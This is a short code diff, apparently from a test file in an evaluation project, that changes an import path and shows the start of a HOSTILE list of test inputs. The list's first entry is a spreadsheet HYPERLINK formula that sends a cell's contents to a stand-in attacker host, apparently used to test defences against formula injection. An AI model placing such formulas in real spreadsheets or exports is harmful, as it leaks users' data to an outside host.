@@ -18,7 +18,7 @@ from evaluation.services import (
     evaluation_run_execute_inline,
     retriever_create,
 )
-from goldsmith.formats.core import GoldenQuery, GoldJudgment
+from goldsmith.formats.goldset import GoldenQuery, GoldJudgment
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
